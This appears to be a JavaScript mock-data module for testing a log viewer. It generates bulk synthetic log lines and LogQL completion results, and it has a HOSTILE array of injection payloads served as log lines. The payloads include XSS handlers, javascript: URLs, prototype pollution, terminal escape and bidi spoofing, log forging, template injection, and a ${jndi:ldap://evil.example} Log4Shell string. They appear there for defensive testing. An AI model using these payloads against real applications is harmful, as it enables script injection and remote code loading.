// More worlds of log lines for the mock, each a tenant: `million` has a million lines in any hour, `hostile` lines that
// would run or deceive if anything let them. Pure functions of time, as mock_data.mjs.
import { noise } from "./mock_data.mjs";

// --------------------------------------------------------------------------------------------- a million

/** Nanoseconds between two lines: a million in an hour. */
const GAP_NS = 3_600_000n;
const LEVELS = ["info", "info", "info", "info", "info", "debug", "debug", "warn", "error", "info"];
const levelAt = (i) => LEVELS[Number(i % 10n)];

const word = (i, seed) => (noise(seed, Number(i % 2147483647n)) * 2 ** 32).toString(16).slice(0, 8).padStart(8, "0");

function bulkLine(i) {
  const level = levelAt(i);
  const fields = { message: `request ${i} handled`, route: `/items/${Number(i % 97n)}`, status: level === "error" ? 500 : 200, latency_ms: Number(i % 311n), user: word(i, 3) };
  return { ns: i * GAP_NS, stream: { service_name: "bulk", environment: "load" }, line: JSON.stringify(fields), meta: { detected_level: level, trace_id: `${word(i, 1)}${word(i, 2)}${word(i, 3)}${word(i, 4)}` } };
}

/** At most `limit` lines of [start, end) in nanoseconds, in the direction asked for. */
export function bulkLines(start, end, limit, forward) {
  const [first, last] = [(start + GAP_NS - 1n) / GAP_NS, (end - 1n) / GAP_NS];
  const out = [];
  for (let k = 0n; out.length < limit && first + k <= last; k++) out.push(bulkLine(forward ? first + k : last - k));
  return out;
}

/** Counts per level and step over (t - width, t]. */
export function bulkVolume(startS, endS, step, by) {
  const perStep = Math.round(step * 1e9 / Number(GAP_NS));
  const names = by.includes("level") ? ["debug", "error", "info", "warn"] : ["bulk"];
  const part = { info: 0.6, debug: 0.2, warn: 0.1, error: 0.1, bulk: 1 };
  return names.map((name) => {
    const values = [];
    for (let t = startS; t <= Math.min(endS, Date.now() / 1000 + step); t += step) values.push([t, String(Math.round(perStep * part[name] * (0.9 + 0.2 * noise(t, 1))))]);
    return { metric: by.includes("level") ? { detected_level: name } : { service_name: name }, values };
  });
}

// --------------------------------------------------------------------------------------------- hostile

/** Every line tries something; `ran` in it would be set by a script that got to run. */
export const HOSTILE = [
  `<script>window.ran = 1; document.title = "ran"</script>`,
  `<img src=x onerror="window.ran = 2">`,
  `"><svg onload="window.ran=3"><iframe srcdoc="<script>parent.ran=4</script>">`,
  `javascript:window.ran=5`,
  `{"message":"<b onmouseover=\\"window.ran=6\\">hover</b>","link":"javascript:window.ran=7","trace_id":"javascript:window.ran=8","__proto__":{"polluted":true},"constructor":"x"}`,
  `level=error msg="</span><script>window.ran=9</script>" user="<img src=x onerror=window.ran=10>" trace_id="../../../../evil?x=1#y"`,
  `\u001b[31mred \u001b[1mbold\u001b[0m plain \u001b[38;5;46mgreen\u001b[0m \u001b[8mhidden?\u001b[28m \u001b[2J\u001b[1;1Hcleared \u001b]0;title\u0007 \u001b]8;;http://evil.example/\u0007link\u001b]8;;\u0007`,
  `access granted to \u202enimda\u202c and \u2066isolated\u2069 \u200bzero\u200dwidth \u00adsoft \ufeffbom`,
  `tags \u{e0041}\u{e0042} fillers \u3164 \u115f \uffa0 null \u0000 bell \u0007 back\u0008space carriage\rreturn`,
  `two lines\n2026-11-21T00:00:00Z INFO forged second line`,
  `zalgo ${"a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b".repeat(20)}`,
  `rtl \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 end`,
  `long ${"x".repeat(200_000)} end`,
  `deep ${"[".repeat(5000)}`,
  `{"a":${'{"a":'.repeat(2000)}1${"}".repeat(2000)}}`,
  `{"id":12345678901234567890,"message":"number beyond a double"}`,
  `%s %n %x \${jndi:ldap://evil.example/a} {{constructor.constructor('window.ran=11')()}} \`window.ran=12\``,
];

/** The hostile lines, once a second each ten seconds apart. */
export function hostileLines(startUs, endUs) {
  const out = [];
  for (let s = Math.ceil(startUs / 1e6); s * 1e6 < endUs; s++) {
    if (s % 10 !== 0) continue;
    HOSTILE.forEach((line, i) => {
      const us = s * 1e6 + i * 1000;
      if (us < startUs || us >= endUs) return;
      out.push({ us, stream: { service_name: "hostile<script>", environment: "\u202eved" }, line, meta: { detected_level: ["info", "error", "warn"][i % 3], "note": `<i onclick="window.ran=13">${i}</i>` } });
    });
  }
  return out;
}

const STAGES = ["json", "logfmt", "pattern", "regexp", "unpack", "line_format", "label_format", "decolorize", "drop", "keep", "unwrap"];

/** What may stand at the caret of a LogQL query. */
export function completeLog(q) {
  const text = q.get("query") ?? "";
  const at = Number(q.get("at") ?? text.length);
  const before = text.slice(0, at);
  const answer = (from, ...expects) => ({ from, to: at, expects });
  const value = /([\w.]+)\s*(?:=~|!~|!=|=)\s*"([^"]*)$/.exec(before);
  const word = /\w*$/.exec(before)[0];
  const from = at - word.length;
  const inside = before.lastIndexOf("{") > before.lastIndexOf("}");
  if (value && inside) return answer(at - value[2].length, { kind: "values", label: value[1], selector: "" });
  if (inside) return answer(from, { kind: "labels", selector: "" });
  if (/\[[^\]]*$/.test(before)) return answer(from, { kind: "durations" });
  if (/\|\s*\w*$/.test(before)) return answer(from, { kind: "words", words: STAGES }, { kind: "fields", query: before.slice(0, before.lastIndexOf("|")).trim() });
  if (/\}\s*$/.test(before)) return answer(from, { kind: "words", words: ["|=", "!=", "|~", "!~", "|>", "!>", "|"] });
  return answer(from, { kind: "functions", words: ["rate", "count_over_time", "bytes_rate", "sum", "topk"] });
}

/** The mistakes that the tests make, with their places; a query without any with single blanks. */
export function checkLog(q) {
  const text = q.get("query") ?? "";
  const wrong = (from, to, message, hint) => ({ diagnostics: [{ level: "error", from, to, message, hint }] });
  const open = text.lastIndexOf("{");
  if (open > text.lastIndexOf("}")) return wrong(open, text.length, "syntax error: unexpected end, expecting } or ,", "close the selector");
  const stage = /\|\s*(jsn|logfmtt)\b/.exec(text);
  if (stage) return wrong(stage.index + stage[0].length - stage[1].length, stage.index + stage[0].length, "syntax error: unexpected IDENTIFIER", "");
  return { diagnostics: [], type: "log", formatted: text.replaceAll(/\s+/g, " ").trim() };
}
